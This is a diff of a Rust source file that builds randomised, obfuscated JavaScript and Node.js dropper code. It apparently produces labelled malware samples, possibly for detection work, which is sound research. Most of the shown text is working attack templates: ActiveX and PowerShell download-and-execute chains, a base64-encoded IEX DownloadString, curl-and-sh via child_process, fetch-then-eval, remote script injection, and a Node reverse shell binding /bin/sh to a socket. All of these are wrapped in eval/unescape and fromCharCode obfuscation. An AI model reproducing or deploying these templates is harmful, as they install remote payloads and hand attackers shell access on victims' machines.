@@ -34,7 +34,9 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
             let words: Vec<String> = order.iter().map(|at| format!("'{}'", pieces[*at])).collect();
             let _ = writeln!(before, "var {name} = [{}];", words.join(", "));
             let parts: Vec<String> = (0..pieces.len())
-                .map(|at| format!("{name}[{:#x}]", order.iter().position(|o| *o == at).unwrap_or(0)))
+                .map(|at| {
+                    format!("{name}[{:#x}]", order.iter().position(|o| *o == at).unwrap_or(0))
+                })
                 .collect();
             parts.join("+")
         }
@@ -89,13 +91,22 @@ pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
         let line = delivery(dice, truth, &mut before);
         text.push_str(&before);
         text.push_str(&line);
+        if super::ends(&line) {
+            break;
+        }
     }
     let marked = "var marks = function(x) { return x; };\n";
     match dice.below(9) {
-        0 => format!("{marked}eval(unescape('{}'));\n", text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>()),
+        0 => format!(
+            "{marked}eval(unescape('{}'));\n",
+            text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>()
+        ),
         1 => format!("{marked}eval(String.fromCharCode({}));\n", codes(text.bytes(), ",")),
         2 => format!("(function() {{\n{text}}})();\n"),
-        3 => format!("{marked}new Function(\"{}\")();\n", text.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>()),
+        3 => format!(
+            "{marked}new Function(\"{}\")();\n",
+            text.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>()
+        ),
         4 => format!("try {{\n{text}}} catch (e) {{\n}}\n"),
         _ => text,
     }
@@ -108,23 +119,38 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         0 | 1 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            let http = dice.pick(&["MSXML2.XMLHTTP", "Microsoft.XMLHTTP", "MSXML2.ServerXMLHTTP", "WinHttp.WinHttpRequest.5.1"]);
-            format!("var {var} = new ActiveXObject('{http}');\n{var}.open('GET', {url}, false);\n{var}.send();\nif ({var}.status == 200) {{\n  var st = new ActiveXObject('ADODB.Stream');\n  st.Open();\n  st.Type = 1;\n  st.Write({var}.ResponseBody);\n  st.Position = 0;\n  var path = new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\{file}.exe';\n  st.SaveToFile(path, 2);\n  st.Close();\n  new ActiveXObject('WScript.Shell').Run(path, 0, false);\n}}\n")
+            let http = dice.pick(&[
+                "MSXML2.XMLHTTP",
+                "Microsoft.XMLHTTP",
+                "MSXML2.ServerXMLHTTP",
+                "WinHttp.WinHttpRequest.5.1",
+            ]);
+            format!(
+                "var {var} = new ActiveXObject('{http}');\n{var}.open('GET', {url}, false);\n{var}.send();\nif ({var}.status == 200) {{\n  var st = new ActiveXObject('ADODB.Stream');\n  st.Open();\n  st.Type = 1;\n  st.Write({var}.ResponseBody);\n  st.Position = 0;\n  var path = new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\{file}.exe';\n  st.SaveToFile(path, 2);\n  st.Close();\n  new ActiveXObject('WScript.Shell').Run(path, 0, false);\n}}\n"
+            )
         }
         2 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("var sh = WScript.CreateObject('WScript.Shell');\nsh.Run('powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile(\\'' + {url} + '\\',\\'C:\\\\Users\\\\Public\\\\{file}.exe\\')\"', 0, true);\n")
+            format!(
+                "var sh = WScript.CreateObject('WScript.Shell');\nsh.Run('powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile(\\'' + {url} + '\\',\\'C:\\\\Users\\\\Public\\\\{file}.exe\\')\"', 0, true);\n"
+            )
         }
         3 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("var {var} = {url};\nnew ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c curl -o %TEMP%\\\\{file}.exe ' + {var} + ' && %TEMP%\\\\{file}.exe', '', 'open', 0);\n")
+            format!(
+                "var {var} = {url};\nnew ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c curl -o %TEMP%\\\\{file}.exe ' + {var} + ' && %TEMP%\\\\{file}.exe', '', 'open', 0);\n"
+            )
         }
         4 => {
-            let urls: Vec<String> = (0..2 + dice.below(3)).map(|_| truth.url(dice, FILES)).collect();
+            let urls: Vec<String> =
+                (0..2 + dice.below(3)).map(|_| truth.url(dice, FILES)).collect();
             let words: Vec<String> = urls.iter().map(|url| hide(dice, url, before)).collect();
-            format!("var {var} = [{}];\nfor (var i = 0; i < {var}.length; i++) {{\n  try {{\n    var x = new ActiveXObject('MSXML2.XMLHTTP');\n    x.open('GET', {var}[i], 0);\n    x.send(null);\n  }} catch (e) {{ }}\n}}\n", words.join(", "))
+            format!(
+                "var {var} = [{}];\nfor (var i = 0; i < {var}.length; i++) {{\n  try {{\n    var x = new ActiveXObject('MSXML2.XMLHTTP');\n    x.open('GET', {var}[i], 0);\n    x.send(null);\n  }} catch (e) {{ }}\n}}\n",
+                words.join(", ")
+            )
         }
         5 => {
             let url = truth.url(dice, &[".php", "", ".html"]);
@@ -134,7 +160,9 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         6 => {
             let url = truth.url(dice, &[".js"]);
             let url = hide(dice, &url, before);
-            format!("var {var} = document.createElement('script');\n{var}.src = {url};\ndocument.getElementsByTagName('head')[0].appendChild({var});\n")
+            format!(
+                "var {var} = document.createElement('script');\n{var}.src = {url};\ndocument.getElementsByTagName('head')[0].appendChild({var});\n"
+            )
         }
         7 => {
             let url = truth.url(dice, &[".js"]);
@@ -144,39 +172,53 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         8 => {
             let url = truth.url(dice, &["", ".sh", ".bin"]);
             let url = hide(dice, &url, before);
-            format!("const {{ exec }} = require('child_process');\nconst {var} = {url};\nexec('curl -fsSL ' + {var} + ' -o /tmp/{file} && sh /tmp/{file}', (err, out) => {{ return out; }});\n")
+            format!(
+                "const {{ exec }} = require('child_process');\nconst {var} = {url};\nexec('curl -fsSL ' + {var} + ' -o /tmp/{file} && sh /tmp/{file}', (err, out) => {{ return out; }});\n"
+            )
         }
         9 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("const fs = require('fs');\nconst http = require('http');\nhttp.get({url}, function (res) {{\n  const out = fs.createWriteStream('/tmp/{file}');\n  res.pipe(out);\n}});\n")
+            format!(
+                "const fs = require('fs');\nconst http = require('http');\nhttp.get({url}, function (res) {{\n  const out = fs.createWriteStream('/tmp/{file}');\n  res.pipe(out);\n}});\n"
+            )
         }
         10 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("var {var} = new XMLHttpRequest();\n{var}.open('POST', {url}, true);\n{var}.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');\n{var}.send('a=1');\n")
+            format!(
+                "var {var} = new XMLHttpRequest();\n{var}.open('POST', {url}, true);\n{var}.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');\n{var}.send('a=1');\n"
+            )
         }
         11 => {
             let url = truth.url(dice, &[".json", "", ".txt"]);
             let url = hide(dice, &url, before);
-            format!("fetch({url}).then(function (r) {{ return r.text(); }}).then(function (t) {{ eval(t); }});\n")
+            format!(
+                "fetch({url}).then(function (r) {{ return r.text(); }}).then(function (t) {{ eval(t); }});\n"
+            )
         }
         12 => {
             let url = truth.url(dice, &[".ps1", ".txt"]);
             let line = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
             let code = base64(&wide(&line));
             let code = hide(dice, &code, before);
-            format!("var {var} = new ActiveXObject('WScript' + '.Shell');\n{var}['R' + 'un']('powershell -nop -w hidden -enc ' + {code}, 0);\n")
+            format!(
+                "var {var} = new ActiveXObject('WScript' + '.Shell');\n{var}['R' + 'un']('powershell -nop -w hidden -enc ' + {code}, 0);\n"
+            )
         }
         13 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("(function () {{\n  var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n  var client = new net.Socket();\n  client.connect({port}, {host}, function () {{\n    client.pipe(sh.stdin);\n    sh.stdout.pipe(client);\n  }});\n}})();\n")
+            format!(
+                "(function () {{\n  var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n  var client = new net.Socket();\n  client.connect({port}, {host}, function () {{\n    client.pipe(sh.stdin);\n    sh.stdout.pipe(client);\n  }});\n}})();\n"
+            )
         }
         _ => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("var {var} = {{\n  go: function (u) {{\n    var o = this['mk']('MSXML2.XMLHTTP');\n    o['open']('GET', u, false);\n    o['send']();\n    return o['responseText'];\n  }},\n  mk: function (n) {{ return new ActiveXObject(n); }}\n}};\nswitch (typeof {var}) {{\n  case 'object': {var}.go({url}); break;\n  default: break;\n}}\n")
+            format!(
+                "var {var} = {{\n  go: function (u) {{\n    var o = this['mk']('MSXML2.XMLHTTP');\n    o['open']('GET', u, false);\n    o['send']();\n    return o['responseText'];\n  }},\n  mk: function (n) {{ return new ActiveXObject(n); }}\n}};\nswitch (typeof {var}) {{\n  case 'object': {var}.go({url}); break;\n  default: break;\n}}\n"
+            )
         }
     }
 }
